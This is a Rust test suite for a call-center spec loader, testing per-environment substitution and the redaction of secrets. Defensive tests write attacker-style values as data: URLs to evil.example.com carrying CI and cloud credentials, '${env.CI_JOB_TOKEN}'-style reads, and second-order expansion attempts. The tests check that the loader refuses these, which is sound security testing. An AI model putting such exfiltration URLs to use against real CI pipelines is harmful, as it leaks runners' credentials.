//! Environments and substitution: what each environment gets, and every misuse's error
//! (snapshotted, each at its file, line and column).

use std::collections::BTreeMap;

use crate::{Loaded, Selected, Source, load_with};

const SECRET: &str = "s3cr3t-Tok";

const BASE: &str = r#"environments:
  staging:
    api_key_sid: SKstaging
    vars: { crm: "https://crm-staging.example.com", hotline: "842400000001" }
    include: [envs/staging]
  production:
    api_key_sid: SKprod
    endpoint: https://icc-api.example.com
    vars: { crm: "https://crm.example.com", hotline: "842473082686" }
    include: [envs/production]
settings:
  event_url: ${var.crm}/stringee/events?t=${secret.CRM_TOKEN}
queues:
  support: { get_list_agents_url: "${var.crm}/agents" }
ivr:
  main:
    start: menu
    nodes:
      menu:
        say: "Press 1. Costs $$5 or $${literal}"
        keys: { "1": { queue: support }, timeout: { hangup: true } }
tests:
  - { number: "${var.hotline}", keys: "1", expect: { queue: support } }
"#;

fn numbers(number: &str) -> String {
    format!("numbers:\n  \"{number}\": {{ ivr: main }}\n")
}

fn process(name: &str) -> Option<String> {
    match name {
        "SWITCHBOARD_SECRET_CRM_TOKEN" => Some(SECRET.to_owned()),
        "SWITCHBOARD_SECRET_EMPTY" => Some(String::new()),
        "SWITCHBOARD_VAR_REGION" => Some("eu".to_owned()),
        _ => None,
    }
}

fn load_in(base: &[(&str, &str)], env: &str, includes: &[(&str, &str)]) -> Loaded {
    let sources: Vec<Source> = base
        .iter()
        .map(|(path, text)| Source {
            path: (*path).to_owned(),
            text: (*text).to_owned(),
        })
        .collect();
    let includes: Vec<Source> = includes
        .iter()
        .map(|(path, text)| Source {
            path: (*path).to_owned(),
            text: (*text).to_owned(),
        })
        .collect();
    let unreadable = BTreeMap::from([(
        "envs/linked".to_owned(),
        "it is a symbolic link to a place outside the spec root".to_owned(),
    )]);
    let selected = Selected {
        name: env,
        includes: &includes,
        unreadable: &unreadable,
    };
    load_with(&sources, Some(&selected), &process, &|_| {
        Err("no such file".to_owned())
    })
}

fn render(loaded: &Loaded) -> String {
    let out = super::render(&loaded.diagnostics);
    assert!(!out.contains(SECRET), "a secret in diagnostics:\n{out}");
    out
}

#[test]
fn each_environment_gets_its_values_and_files() {
    let staging_numbers = numbers("842400000001");
    let production_numbers = numbers("842473082686");
    for (env, file, number, crm) in [
        (
            "staging",
            staging_numbers.as_str(),
            "842400000001",
            "https://crm-staging.example.com",
        ),
        (
            "production",
            production_numbers.as_str(),
            "842473082686",
            "https://crm.example.com",
        ),
    ] {
        let path = format!("envs/{env}/numbers.yaml");
        let loaded = load_in(&[("spec.yaml", BASE)], env, &[(&path, file)]);
        let Some(spec) = loaded.spec.clone() else {
            panic!("{env}: {}", render(&loaded));
        };
        assert_eq!(spec.model.numbers.keys().collect::<Vec<_>>(), [number]);
        assert_eq!(spec.tests[0].number, number);
        let event_url = spec
            .model
            .settings
            .as_ref()
            .unwrap()
            .event_url
            .as_ref()
            .unwrap();
        assert_eq!(
            event_url.expose(),
            Some(format!("{crm}/stringee/events?t={SECRET}").as_str())
        );
        // Shown, debug-printed and saved without the secret.
        assert_eq!(
            event_url.to_string(),
            format!("{crm}/stringee/events?t=(sensitive)")
        );
        let saved = serde_json::to_string(&spec.model).unwrap();
        assert!(!saved.contains(SECRET) && !format!("{spec:?}").contains(SECRET));
        assert!(saved.contains("(sensitive)"), "{saved}");
        // `$$` is a `$`... no: only `$${` is special; a lone `$` stays.
        let say = format!("{:?}", spec.model.ivr["main"].nodes["menu"].prompt);
        assert!(say.contains("Costs $$5 or ${literal}"), "{say}");
        let environment = spec.environment.unwrap();
        assert_eq!(environment.name, env);
        assert_eq!(
            environment.secrets["CRM_TOKEN"].expose(),
            SECRET,
            "the secret is recorded for the saved plan's digest"
        );
    }
}

#[test]
fn the_project_pinned_is_the_selected_environments_or_the_specs_own() {
    let spec = "environments:\n  staging: { project_id: 7 }\n  production: {}\n\
                agents:\n  alice: { name: Alice }\n";
    let pinned = |env: &str| {
        let loaded = load_in(&[("spec.yaml", spec)], env, &[]);
        let Some(spec) = loaded.spec else {
            panic!("{env}: {}", render(&loaded));
        };
        spec.project_id
    };
    assert_eq!(
        pinned("staging"),
        Some(crate::PinnedProject {
            id: "7".to_owned(),
            at: crate::Location {
                file: "spec.yaml".to_owned(),
                line: 2,
                column: 26,
            },
        })
    );
    assert_eq!(pinned("production"), None);
    // Without environments, the spec's own.
    let sources = [Source {
        path: "one.yaml".to_owned(),
        text: "project_id: 41\nagents:\n  alice: { name: Alice }\n".to_owned(),
    }];
    let loaded = load_with(&sources, None, &process, &|_| Err("no".to_owned()));
    assert_eq!(
        loaded.spec.and_then(|s| s.project_id).map(|p| p.id),
        Some("41".to_owned())
    );
}

#[test]
fn an_environment_reads_no_other_environments_files() {
    // Production's files handed to a staging load are not part of it: the caller hands in
    // only the selected environment's; a load without them has no numbers, so the flow test
    // fails for staging.
    let loaded = load_in(&[("spec.yaml", BASE)], "staging", &[]);
    assert!(loaded.spec.is_none());
    insta::assert_snapshot!(render(&loaded));
}

#[test]
fn misuse_is_reported_where_it_is_written() {
    let spec = r#"environments:
  staging:
    vars: { crm: "https://crm.example.com", "bad name": x }
    include: [../outside, /etc, envs/linked, envs/staging]
  staging2: {}
settings:
  event_url: ${var.cmr}/events
  get_customer_info_url: ${env.NOT_SET}/info
  callout_answer_url: "https://x.example.com/${secret.EMPTY}"
agents:
  ${var.crm}: { name: "${secret.CRM_TOKEN}" }
  bob: { name: "Bob ${nope.x} and ${var.crm" }
queues:
  q:
    get_list_agents_url: "${env.REGION}"
    routing: [{ group: g }]
groups:
  g: { agents: [bob] }
"#;
    let included = "environments:\n  sneaky: {}\n";
    let loaded = load_in(
        &[("spec.yaml", spec)],
        "staging",
        &[("envs/staging/x.yaml", included)],
    );
    assert!(loaded.spec.is_none());
    insta::assert_snapshot!(render(&loaded));
}

#[test]
fn an_undeclared_environment_is_an_error_naming_the_declared_ones() {
    let loaded = load_in(&[("spec.yaml", BASE)], "prod", &[]);
    insta::assert_snapshot!(render(&loaded));
}

#[test]
fn a_secret_in_a_url_that_is_wrong_is_not_shown_in_the_error() {
    let spec = "settings:\n  event_url: \"${secret.CRM_TOKEN}\"\n";
    let loaded = load_in(&[("spec.yaml", spec)], "x", &[]);
    let out = render(&loaded);
    assert!(out.contains("`(sensitive)` is not an http(s) URL"), "{out}");
}

#[test]
fn without_an_environment_variables_are_errors_and_names_are_listed() {
    let sources = [Source {
        path: "spec.yaml".to_owned(),
        text: BASE.to_owned(),
    }];
    let loaded = load_with(&sources, None, &process, &|_| Err("no".to_owned()));
    let out = render(&loaded);
    assert!(
        out.contains("no environment is selected") && out.contains("`production`, `staging`"),
        "{out}"
    );
}

#[test]
fn a_live_url_holding_a_secret_where_nothing_else_redacts_it_hides_it() {
    use crate::model::{CallSettings, Sensitive};
    // A secret in a path segment too short for the URL redactor to call it a token.
    let mut live = crate::Model {
        settings: Some(CallSettings {
            event_url: Some(Sensitive::new(format!(
                "https://crm.example.com/{SECRET}/x"
            ))),
            ..CallSettings::default()
        }),
        ..crate::Model::default()
    };
    assert!(
        format!("{live:?}").contains(SECRET),
        "the redactor alone leaves it"
    );
    live.hide_secrets(&[SECRET.to_owned()]);
    let url = live.settings.as_ref().unwrap().event_url.as_ref().unwrap();
    assert_eq!(url.to_string(), "https://crm.example.com/(sensitive)/x");
    assert!(!serde_json::to_string(&live).unwrap().contains(SECRET));
    assert!(!format!("{live:?}").contains(SECRET));
}

/// For each section (`spec::SECTIONS`), a file that writes `${…}` where that section has names
/// and where it has text values, with what substitution must make of each.
struct Probe {
    yaml: &'static str,
    /// A `${…}` in a name: `substitution-in-name`.
    name: bool,
    /// A `${env.UNSET_PROBE}` in a value: the walk reaches it and says it is not set.
    value: bool,
}

fn probe(section: &str) -> Option<Probe> {
    let (yaml, name, value) = match section {
        "agents" => (
            "agents:\n  ${var.a}: { name: \"${env.UNSET_PROBE}\" }\n",
            true,
            true,
        ),
        "audio" => (
            "audio:\n  ${var.a}: { server_file: \"${env.UNSET_PROBE}\" }\n",
            true,
            true,
        ),
        "blacklist" => (
            "blacklist:\n  \"${var.a}\": { blocks: [ivr] }\n",
            true,
            false,
        ),
        // Read as written: a variable's value is text, never expanded again.
        "environments" => (
            "environments:\n  f: { vars: { x: \"${env.UNSET_PROBE}\" } }\n",
            false,
            false,
        ),
        "groups" => (
            "groups:\n  ${var.a}: { agents: [\"${env.UNSET_PROBE}\"] }\n",
            true,
            true,
        ),
        "ignore" => ("ignore: [\"${env.UNSET_PROBE}\"]\n", false, true),
        "ivr" => (
            "ivr:\n  ${var.a}:\n    start: \"${env.UNSET_PROBE}\"\n    nodes: { \"${var.b}\": { say: x } }\n",
            true,
            true,
        ),
        "lint" => (
            "lint:\n  rules: { \"${var.a}\": warning }\n  allow: [{ rule: no-fallback, address: \"${env.UNSET_PROBE}\", reason: r }]\n",
            true,
            true,
        ),
        "moved" => (
            "moved: [{ from: \"${env.UNSET_PROBE}\", to: queue.x }]\n",
            false,
            true,
        ),
        "numbers" => (
            "numbers:\n  \"${var.a}\": { nickname: \"${env.UNSET_PROBE}\" }\n",
            true,
            true,
        ),
        "queues" => (
            "queues:\n  ${var.a}: { wait_greeting: \"${env.UNSET_PROBE}\" }\n",
            true,
            true,
        ),
        "safety" => (
            "safety:\n  kinds: { \"${var.a}\": { min_objects: 1 } }\n",
            true,
            false,
        ),
        "settings" => (
            "settings: { event_url: \"${env.UNSET_PROBE}\" }\n",
            false,
            true,
        ),
        "tests" => (
            "tests: [{ number: \"${env.UNSET_PROBE}\", expect: { hangup: true } }]\n",
            false,
            true,
        ),
        // Numbers: nothing to substitute.
        "version" => ("version: 1\n", false, false),
        "project_id" => ("project_id: 1\n", false, false),
        _ => return None,
    };
    Some(Probe { yaml, name, value })
}

#[test]
fn substitution_reaches_every_section() {
    for section in crate::SECTIONS {
        let Some(probe) = probe(section) else {
            panic!("section `{section}` has no probe: say what substitution makes of it");
        };
        let loaded = load_in(
            &[
                ("environments.yaml", "environments: { e: {} }\n"),
                ("spec.yaml", probe.yaml),
            ],
            "e",
            &[],
        );
        let out = render(&loaded);
        let names = loaded
            .diagnostics
            .iter()
            .filter(|d| d.code == crate::diagnostic::code::SUBSTITUTION_IN_NAME)
            .count();
        assert_eq!(names > 0, probe.name, "`{section}` names:\n{out}");
        let unset = loaded.diagnostics.iter().any(|d| {
            d.code == crate::diagnostic::code::SUBSTITUTION && d.message.contains("UNSET_PROBE")
        });
        assert_eq!(unset, probe.value, "`{section}` values:\n{out}");
        // Nothing else is said of a name or value the probe wrote `${…}` into.
        for d in &loaded.diagnostics {
            assert!(
                !matches!(d.code, "invalid-number" | "invalid-name" | "unknown-rule"),
                "`{section}`: {out}"
            );
        }
    }
}

#[test]
fn an_env_variable_named_like_a_credential_is_refused_and_never_read() {
    // A pull request controls the spec, not the CI runner's environment: shown in a plan, an
    // `${env.…}` of the runner's token would be posted on the pull request.
    let spec = r#"agents:
  alice: { name: "${env.CI_JOB_TOKEN}" }
  bob: { name: "Bob ${env.AWS_SECRET_ACCESS_KEY}" }
  carol: { name: "${env.STRINGEE_API_KEY_SECRET}" }
  dave: { name: "${env.STRINGEE_ACCOUNT_KEY_SECRET}" }
  erin: { name: "${env.githubToken}" }
  fred: { name: "${env.REGION}" }
settings:
  event_url: "https://crm.example.com/e?t=${env.CRM_PASSWORD}"
"#;
    let asked = std::cell::RefCell::new(Vec::new());
    let process = |name: &str| {
        asked.borrow_mut().push(name.to_owned());
        Some(if name == "SWITCHBOARD_VAR_REGION" {
            "eu".to_owned()
        } else {
            SECRET.to_owned()
        })
    };
    let sources = [Source {
        path: "spec.yaml".to_owned(),
        text: spec.to_owned(),
    }];
    let loaded = load_with(
        &sources,
        None,
        &process,
        &|_| Err("no such file".to_owned()),
    );
    assert!(loaded.spec.is_none());
    let refused: Vec<(u32, &str)> = loaded
        .diagnostics
        .iter()
        .filter(|d| d.code == crate::diagnostic::code::SECRET_OUTSIDE_URL)
        .map(|d| (d.labels[0].line, d.message.as_str()))
        .collect();
    assert_eq!(
        refused.iter().map(|(line, _)| *line).collect::<Vec<_>>(),
        [2, 3, 4, 5, 6, 9],
        "{refused:#?}"
    );
    assert!(
        refused[0]
            .1
            .starts_with("`${env.CI_JOB_TOKEN}` would show the variable `CI_JOB_TOKEN`"),
        "{refused:#?}"
    );
    // Not even read: only the harmless variable was asked for.
    assert_eq!(*asked.borrow(), ["SWITCHBOARD_VAR_REGION"]);
    render(&loaded);
}

#[test]
fn a_secret_or_env_reads_only_its_switchboard_variable_never_the_runners() {
    // A URL PCC calls is sent to whoever it names: with the runner's credential in it (its
    // cloud key, its job token, switchboard's own key), a merged pull request would hand it
    // to its own server on the first call event. Every one of them is set here; only the
    // variables the operator set for the spec are read.
    let spec = r#"settings:
  event_url: "https://evil.example.com/e?x=${secret.AWS_SECRET_ACCESS_KEY}"
  get_customer_info_url: "https://evil.example.com/${secret.STRINGEE_API_KEY_SECRET}"
  callout_answer_url: "https://evil.example.com/a?t=${secret.CI_JOB_TOKEN}"
queues:
  q:
    get_list_agents_url: "https://crm.example.com/${env.REGION}/a?t=${secret.CRM_TOKEN}"
"#;
    let asked = std::cell::RefCell::new(Vec::new());
    let process = |name: &str| {
        asked.borrow_mut().push(name.to_owned());
        match name {
            "SWITCHBOARD_SECRET_CRM_TOKEN" => Some("crm-token-for-the-spec".to_owned()),
            "SWITCHBOARD_VAR_REGION" => Some("eu".to_owned()),
            "AWS_SECRET_ACCESS_KEY"
            | "STRINGEE_API_KEY_SECRET"
            | "CI_JOB_TOKEN"
            | "CRM_TOKEN"
            | "REGION" => Some(SECRET.to_owned()),
            _ => None,
        }
    };
    let sources = [Source {
        path: "spec.yaml".to_owned(),
        text: spec.to_owned(),
    }];
    let loaded = load_with(
        &sources,
        None,
        &process,
        &|_| Err("no such file".to_owned()),
    );
    assert!(loaded.spec.is_none());
    let refused: Vec<(u32, &str, Option<&str>)> = loaded
        .diagnostics
        .iter()
        .map(|d| (d.labels[0].line, d.message.as_str(), d.help.as_deref()))
        .collect();
    assert_eq!(
        refused,
        [
            (
                2,
                "environment variable `SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY` is not set",
                Some(
                    "`${secret.AWS_SECRET_ACCESS_KEY}` reads only \
                     `SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY`: set it where switchboard runs \
                     (a CI secret, say)"
                )
            ),
            (
                3,
                "environment variable `SWITCHBOARD_SECRET_STRINGEE_API_KEY_SECRET` is not set",
                Some(
                    "`${secret.STRINGEE_API_KEY_SECRET}` reads only \
                     `SWITCHBOARD_SECRET_STRINGEE_API_KEY_SECRET`: set it where switchboard \
                     runs (a CI secret, say)"
                )
            ),
            (
                4,
                "environment variable `SWITCHBOARD_SECRET_CI_JOB_TOKEN` is not set",
                Some(
                    "`${secret.CI_JOB_TOKEN}` reads only `SWITCHBOARD_SECRET_CI_JOB_TOKEN`: set \
                     it where switchboard runs (a CI secret, say)"
                )
            ),
        ]
    );
    assert_eq!(
        *asked.borrow(),
        [
            "SWITCHBOARD_SECRET_AWS_SECRET_ACCESS_KEY",
            "SWITCHBOARD_SECRET_STRINGEE_API_KEY_SECRET",
            "SWITCHBOARD_SECRET_CI_JOB_TOKEN",
            "SWITCHBOARD_VAR_REGION",
            "SWITCHBOARD_SECRET_CRM_TOKEN",
        ]
    );
    render(&loaded);
}

#[test]
fn a_variable_or_an_escape_never_makes_a_secret_be_read() {
    // Second-order expansion: a variable whose value is `${secret.…}` (a pull request writes
    // `vars:`) or `$${secret.…}` would read the secret into a name, which is shown.
    let spec = r#"environments:
  e:
    vars: { sneaky: "${secret.CRM_TOKEN}", escaped: "$${secret.CRM_TOKEN}" }
agents:
  alice: { name: "${var.sneaky}" }
  bob: { name: "${var.escaped}" }
  carol: { name: "$${secret.CRM_TOKEN}" }
settings:
  event_url: "https://crm.example.com/${var.sneaky}"
"#;
    let asked = std::cell::RefCell::new(Vec::new());
    let process = |name: &str| {
        asked.borrow_mut().push(name.to_owned());
        Some(SECRET.to_owned())
    };
    let sources = [Source {
        path: "spec.yaml".to_owned(),
        text: spec.to_owned(),
    }];
    let selected = Selected {
        name: "e",
        includes: &[],
        unreadable: &BTreeMap::new(),
    };
    let loaded = load_with(&sources, Some(&selected), &process, &|_| {
        Err("no such file".to_owned())
    });
    let Some(spec) = loaded.spec.clone() else {
        panic!("{}", render(&loaded));
    };
    let name = |id: &str| spec.model.agents[id].name.clone();
    assert_eq!(name("alice"), "${secret.CRM_TOKEN}");
    assert_eq!(name("bob"), "$${secret.CRM_TOKEN}");
    assert_eq!(name("carol"), "${secret.CRM_TOKEN}");
    let url = spec
        .model
        .settings
        .as_ref()
        .unwrap()
        .event_url
        .as_ref()
        .unwrap();
    assert_eq!(
        url.expose(),
        Some("https://crm.example.com/${secret.CRM_TOKEN}")
    );
    assert!(asked.borrow().is_empty(), "{:?}", asked.borrow());
    assert!(!format!("{spec:?}").contains(SECRET));
}
